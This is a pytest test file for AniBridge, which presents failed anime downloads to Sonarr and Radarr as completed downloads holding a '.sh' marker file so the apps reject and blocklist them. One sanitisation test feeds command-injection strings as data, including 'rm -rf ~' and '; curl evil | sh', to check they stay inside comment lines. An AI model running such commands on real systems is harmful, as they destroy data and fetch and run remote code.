"""A download that cannot finish reaches the state Sonarr and Radarr fail: blocklisted, another release searched.

Their qBittorrent client fails nothing by state (``error`` is a warning), so AniBridge shows them the failure
as a finished download holding only a marker file with an executable's extension, which their import rejects
and - with the indexer's "Fail Downloads: Executables" - fails (``arr_rules.import_completed``). Every other
client still sees qBittorrent's ``error`` state.
"""

from __future__ import annotations

import os
import stat
import time
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import arr_rules as arr
import httpx
import pytest
import qbittorrentapi

from anibridge.devworld.testing import RunningWorld, running_world
from anibridge.downloads.cleanup import Cleanup
from anibridge.downloads.failure_marker import MARKER_SUFFIX, marker_content
from anibridge.downloads.placement import file_name
from anibridge.downloads.tasks import TaskRow
from anibridge.releases import build_magnet
from anibridge.testing import Harness, running_anibridge

API = "/api/v2"
SONARR = "Sonarr/4.0.16.2944 (ubuntu 24.04)"
RADARR = "Radarr/5.28.0.10274 (debian 12)"


def _missing(slug: str) -> str:
    """A magnet whose episode the provider does not have: every attempt fails."""
    title = slug.replace("-", ".").title()
    return build_magnet("aniworld.to", slug, 1, 1, "German Dub", f"{title}.S01E01.WEB.H264.GER-ANIWORLD")


@pytest.fixture(scope="module")
def world() -> Iterator[RunningWorld]:
    with running_world(seed=11, titles=4) as w:
        yield w


@pytest.fixture(scope="module")
def bridge(world: RunningWorld, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Harness]:
    with running_anibridge(tmp_path_factory.mktemp("failed"), CATALOG_SITES="aniworld.to",
                           QBIT_PUBLIC_SAVE_PATH="/downloads", DOWNLOADS_TTL_HOURS="1", **world.env()) as h:
        yield h


def _local(h: Harness, public: str) -> Path:
    return h.settings.downloads_path / Path(public).relative_to("/downloads")


def _wait(qbit: arr.SonarrQbit, download_id: str, timeout: float = 60) -> arr.DownloadItem:
    deadline = time.monotonic() + timeout
    while True:
        items = {i.download_id: i for i in qbit.items()}
        item = items.get(download_id)
        if item is not None and item.status not in ("Queued", "Downloading") or time.monotonic() > deadline:
            assert item is not None
            return item
        time.sleep(0.25)


def _state(h: Harness, download_id: str, **headers: str) -> dict[str, Any]:
    with httpx.Client(base_url=h.base_url, timeout=10, headers=headers) as c:
        found = c.get(f"{API}/torrents/info", params={"hashes": download_id.lower()}).json()
    assert len(found) == 1
    return dict(found[0])


@pytest.mark.parametrize(("app", "agent", "category"), [("Sonarr", SONARR, "tv-sonarr"), ("Radarr", RADARR, "radarr")])
def test_the_arr_apps_fail_blocklist_and_remove_a_download_that_cannot_finish(
        bridge: Harness, app: str, agent: str, category: str) -> None:
    with httpx.Client(base_url=bridge.base_url, timeout=30) as http:
        qbit = arr.SonarrQbit(http, category=category, user_agent=agent)
        assert qbit.test() == []
        download_id = qbit.add_magnet(_missing(f"gone-for-{app.lower()}"))
        item = _wait(qbit, download_id)

        # shown as finished, holding only the marker (as a single-file torrent: Sonarr's ProcessFile)
        assert item.status == "Completed", item
        assert item.output_path is not None and item.output_path.endswith(MARKER_SUFFIX)
        marker = _local(bridge, item.output_path)
        assert marker.is_file() and [p.name for p in marker.parent.iterdir()] == [marker.name]
        assert not marker.stat().st_mode & (stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH), "a note, not a program"
        reason = qbit.properties(download_id)["comment"]
        assert reason and f"Reason:  {reason}" in marker.read_text()

        # everybody else sees what qBittorrent would show: an error, with the reason in the comment
        generic = _state(bridge, download_id)
        assert (generic["state"], generic["progress"], generic["comment"]) == ("error", 0, reason)
        with qbittorrentapi.Client(host=bridge.base_url, VERIFY_WEBUI_CERTIFICATE=False) as api:
            assert api.torrents_info(torrent_hashes=download_id.lower())[0].state == "error"

        # the indexer without "Fail Downloads" (its default): the import is blocked, with a warning
        assert arr.import_completed(item, marker, set(), app=app) == (
            "ImportBlocked", "Caution: Found executable file with extension: '.sh'")
        # "Fail Downloads: Executables": failed, blocklisted, and removed with its data at once
        state, _ = arr.import_completed(item, marker, {arr.FAIL_EXECUTABLES}, app=app)
        assert state == "FailedPending"
        assert item.can_be_removed, "a marker's share limits are reached at once"
        blocklisted, removed = arr.failed_download_handling(item, state)
        assert blocklisted and removed
        qbit.remove(download_id, delete_data=True)
        assert not marker.exists() and not marker.parent.exists()
        assert download_id not in {i.download_id for i in qbit.items()}


def test_sonarrs_user_defined_extension_fails_it_too(bridge: Harness) -> None:
    """Sonarr alone also offers "User Defined Extensions" (Radarr's RejectedImportService lacks it)."""
    with httpx.Client(base_url=bridge.base_url, timeout=30) as http:
        qbit = arr.SonarrQbit(http, user_agent=SONARR)
        download_id = qbit.add_magnet(_missing("gone-for-good"))
        item = _wait(qbit, download_id)
        assert item.output_path is not None
        marker = _local(bridge, item.output_path)
        # the file's extension is what Sonarr matches (Path.GetExtension): ".sh"
        assert arr.import_completed(item, marker, {arr.FAIL_USER_EXTENSIONS}, user_rejected_extensions="sh")[0] == \
            "ImportBlocked", "an executable's rejection comes first and needs the Executables option"
        assert arr.import_completed(item, marker, {arr.FAIL_EXECUTABLES}, user_rejected_extensions="sh")[0] == \
            "FailedPending"
        qbit.remove(download_id, delete_data=True)


def test_a_regrabbed_failure_is_retried_without_its_marker(bridge: Harness) -> None:
    with httpx.Client(base_url=bridge.base_url, timeout=30) as http:
        qbit = arr.SonarrQbit(http, user_agent=SONARR)
        magnet = _missing("gone-twice")
        download_id = qbit.add_magnet(magnet)
        first = _wait(qbit, download_id)
        assert first.output_path is not None
        marker = _local(bridge, first.output_path)
        assert marker.is_file()

        # a manual grab of the same release again: qBittorrent-wise a duplicate, AniBridge retries it
        assert http.post(f"{API}/torrents/add", data={"urls": magnet, "category": "tv-sonarr"}).text == "Ok."
        assert not marker.exists(), "the old marker must not sit beside the download to come"
        resumed = bridge.runtime.journal.read(types=["task.resumed"])
        assert any(e.stream == f"task:{download_id.lower()}" for e in resumed)
        again = _wait(qbit, download_id)
        assert again.output_path == first.output_path, "the release folder is its own again"
        assert marker.is_file()
        task = bridge.runtime.tasks_reader.connection().execute(
            "SELECT attempts, status FROM tasks WHERE hash = ?", (download_id.lower(),)).fetchone()
        assert task[1] == "failed"

        # DOWNLOADS_TTL_HOURS clears old failures like old downloads: task and marker
        removed = Cleanup(bridge.runtime).run(time.time() + 2 * 3600)
        assert removed >= 1 and not marker.exists()
        assert download_id not in {i.download_id for i in qbit.items()}


@pytest.mark.parametrize("mode", ["off", "always"])
def test_failed_download_marker_setting(world: RunningWorld, tmp_path: Path, mode: str) -> None:
    with running_anibridge(tmp_path, CATALOG_SITES="aniworld.to", FAILED_DOWNLOAD_MARKER=mode,
                           **world.env()) as h, httpx.Client(base_url=h.base_url, timeout=30) as http:
        qbit = arr.SonarrQbit(http, user_agent=SONARR)
        download_id = qbit.add_magnet(_missing(f"gone-{mode}"))
        item = _wait(qbit, download_id)
        generic = _state(h, download_id)
        markers = list(h.settings.downloads_path.rglob(f"*{MARKER_SUFFIX}"))
        if mode == "off":
            assert (item.status, item.message) == ("Warning", "qBittorrent is reporting an error")
            assert generic["state"] == "error" and markers == []
        else:
            assert item.status == "Completed" and generic["state"] == "stoppedUP"
            assert len(markers) == 1 and generic["content_path"] == str(markers[0])


@pytest.mark.parametrize("agent", ["Sonarr/4.0.11.2680 (ubuntu 22.04)", "Radarr/5.21.1.9799 (debian 12)",
                                   "Lidarr/2.9.6.4552 (debian 12)", "qBittorrent-WebUI", ""])
def test_clients_that_would_not_fail_it_see_the_error_state(bridge: Harness, agent: str) -> None:
    """Sonarr before 4.0.12.2892 and Radarr before 5.22.0.9808 only warn about an executable in a single-file
    download (RejectedImportService came later): they, and everyone else, get qBittorrent's error state."""
    with httpx.Client(base_url=bridge.base_url, timeout=30) as http:
        download_id = arr.SonarrQbit(http, user_agent=SONARR).add_magnet(_missing(f"gone-{zlib.crc32(agent.encode())}"))
        assert _wait(arr.SonarrQbit(http, user_agent=SONARR), download_id).status == "Completed"
        old = arr.SonarrQbit(http, user_agent=agent)
        item = {i.download_id: i for i in old.items()}[download_id]
        assert (item.status, item.message) == ("Warning", "qBittorrent is reporting an error")
        old.remove(download_id, delete_data=True)


def test_passing_faults_leave_no_marker(world: RunningWorld, tmp_path: Path) -> None:
    """Sonarr and Radarr blocklist a failed release for good: a site answering 503, or too little disk space,
    must not cost the release - those failures stay qBittorrent's error state, to be resumed."""
    slug = "passing-fault"
    world.set_faults([{"site": "aniworld", "path": f"^/anime/stream/{slug}/", "mode": "503", "retry_after": 0}])
    try:
        with running_anibridge(tmp_path / "a", CATALOG_SITES="aniworld.to", PROVIDER_REDIRECT_RETRIES="0",
                               **world.env()) as h, httpx.Client(base_url=h.base_url, timeout=30) as http:
            qbit = arr.SonarrQbit(http, user_agent=SONARR)
            item = _wait(qbit, qbit.add_magnet(_missing(slug)))
            assert (item.status, item.message) == ("Warning", "qBittorrent is reporting an error"), item
            assert "503" in qbit.properties(item.download_id)["comment"]
            assert not list(h.settings.downloads_path.rglob(f"*{MARKER_SUFFIX}"))
    finally:
        world.clear_faults()
    with running_anibridge(tmp_path / "b", CATALOG_SITES="aniworld.to", DOWNLOAD_MIN_FREE_GB="100000",
                           **world.env()) as h, httpx.Client(base_url=h.base_url, timeout=30) as http:
        qbit = arr.SonarrQbit(http, user_agent=SONARR)
        item = _wait(qbit, qbit.add_magnet(_missing("no-room")))
        assert (item.status, item.message) == ("Warning", "qBittorrent is reporting an error"), item
        assert "DOWNLOAD_MIN_FREE_GB" in qbit.properties(item.download_id)["comment"]
        assert not list(h.settings.downloads_path.rglob(f"*{MARKER_SUFFIX}"))


def test_automatic_retries_stop_after_the_last_delay(world: RunningWorld, tmp_path: Path) -> None:
    """DOWNLOAD_RETRY_MINUTES has one entry per retry: after the last, the download stays failed until
    someone starts it, which gives it the full set of retries again."""
    slug = "always-503"
    world.set_faults([{"site": "aniworld", "path": f"^/anime/stream/{slug}/", "mode": "503", "retry_after": 0}])
    try:
        with running_anibridge(tmp_path, CATALOG_SITES="aniworld.to", PROVIDER_REDIRECT_RETRIES="0",
                               DOWNLOAD_RETRY_MINUTES="0.01,0.01", **world.env()) as h, \
                httpx.Client(base_url=h.base_url, timeout=30) as http:
            download_id = arr.SonarrQbit(http, user_agent=SONARR).add_magnet(_missing(slug)).lower()

            def failures() -> int:
                events = h.runtime.journal.read(types=["task.failed"])
                return sum(1 for e in events if e.stream == f"task:{download_id}")

            deadline = time.monotonic() + 30
            while failures() < 3 and time.monotonic() < deadline:
                time.sleep(0.1)
            time.sleep(2)  # a fourth attempt would have started by now
            assert failures() == 3, "the first attempt and two retries"
            info = _state(h, download_id)
            assert info["state"] == "error" and "tries again" not in info["comment"] and "503" in info["comment"]
            http.post(f"{API}/torrents/start", data={"hashes": download_id})
            deadline = time.monotonic() + 30
            while failures() < 4 and time.monotonic() < deadline:
                time.sleep(0.1)
            assert "tries again" in _state(h, download_id)["comment"], "a manual start: retries afresh"
    finally:
        world.clear_faults()


def _task(name: str) -> TaskRow:
    return TaskRow(hash="a" * 40, site="aniworld.to", slug="x", season=1, episode=2, language="German Dub",
                   provider=None, mode=None, name=name, magnet="", category="", save_path="", tags="",
                   status="failed", paused=False, added_on=0.0, started_on=None, completed_on=None, downloaded=0,
                   total_size=0, path="", quality="", host="", attempts=1, error="", position=0)


def test_marker_text_cannot_carry_a_command() -> None:
    """Provider text in a reason (or a dn) stays inside one comment line of the note."""
    text = marker_content(_task("Evil\nrm -rf ~\u2028x"), "VOE: page said\r\nexit 0\n; curl evil | sh", 0.0)
    lines = text.splitlines()
    assert lines[0] == "#!/bin/sh" and lines[-1] == "exit 1"
    assert all(line.startswith("#") for line in lines[:-1]), lines
    assert "# Reason:  VOE: page said exit 0 ; curl evil | sh" in lines


def test_a_long_release_name_keeps_its_extension() -> None:
    name = file_name("A" * 400, MARKER_SUFFIX)
    assert name.endswith(MARKER_SUFFIX) and len(name.encode()) <= 180
    assert file_name("Ünïcödé " * 40, ".mkv").endswith(".mkv")
    assert os.path.splitext(file_name("x" * 300, ".mp4"))[1] == ".mp4"
